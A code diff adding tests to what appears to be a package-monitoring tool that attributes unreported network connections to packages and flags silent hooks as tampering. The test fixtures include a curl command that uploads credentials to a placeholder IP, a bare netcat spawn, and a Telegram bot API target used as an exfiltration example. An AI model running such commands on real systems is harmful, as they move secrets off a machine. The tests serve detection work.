@@ -311,3 +311,53 @@ test('a change of an environment leaves as an activity', async () => {
     },
   ]);
 });
+
+describe('a connection that no hook told', () => {
+  const remote = { protocol: 'tcp', ip: '203.0.113.7', port: 443 } as const;
+  const found = { process, remote, name: null, atMs: 5, lastMs: 9, count: 2 };
+  const nosy = { name: 'nosy', version: '1.2.3' };
+
+  test('by native code: of the package that could have made it, with the place where it was loaded', async () => {
+    const { found: take, sent, stop } = pipe();
+    const by = { package: nosy, chain: [nosy], confidence: 'native' as const, frames: [frame('load', true)] };
+    take({ ...found, kind: 'native', by, name: 'api.telegram.org' });
+    take({ ...found, kind: 'native', by: null });
+    await stop();
+    expect(sent()).toMatchObject([
+      {
+        ...{ operation: 'net.connect', target: 'api.telegram.org', targetClass: 'bot-api', ip: remote.ip, port: 443 },
+        ...{ package: nosy, confidence: 'native', chain: [nosy], atMs: 5, lastMs: 9, count: 2, other: null },
+        ...{ environment: '/venv', process: { key: '42-1' }, frames: [{ file: '~/x.py', function: 'load' }] },
+      },
+      { target: remote.ip, targetClass: 'literal-address', package: null, confidence: 'unknown', chain: [] },
+    ]);
+  });
+
+  test('by a child without a hook: of the package that started it, with its command line', async () => {
+    const { found: take, sink, sent, stop } = pipe();
+    const argv = ['curl', '-u', 'ann:hunter2', 'https://203.0.113.7/upload'];
+    sink.activities(process, [said('process.spawn', 'curl', { other: argv.join(' ') })]);
+    take({ ...found, kind: 'child', child: { pid: 43, startedMs: 120, argv, pids: [43, 42] } });
+    take({ ...found, kind: 'child', child: { pid: 51, startedMs: 120, argv: ['nc'], pids: [51, 50] } });
+    await stop();
+    expect(sent().slice(1)).toMatchObject([
+      { operation: 'net.connect', target: remote.ip, package: nosy, confidence: 'descent', process: { key: '42-1' } },
+      { operation: 'net.connect', package: null, confidence: 'unknown', other: 'nc' },
+    ]);
+    expect(sent()[1]?.other).toMatch(/^curl /);
+    expect(JSON.stringify(sent())).not.toContain('hunter2');
+  });
+
+  test('by nothing but the interpreter: the connection, and that the hook is silent', async () => {
+    const { found: take, sent, stop } = pipe();
+    take({ ...found, kind: 'silent' });
+    await stop();
+    expect(sent()).toMatchObject([
+      { operation: 'net.connect', target: remote.ip, package: null, confidence: 'unknown' },
+      {
+        ...{ operation: 'hook.tamper', target: 'connection-untold', targetClass: null, ip: null, port: null },
+        ...{ package: null, other: 'The process connected to 203.0.113.7:443, and its hook did not tell.' },
+      },
+    ]);
+  });
+});
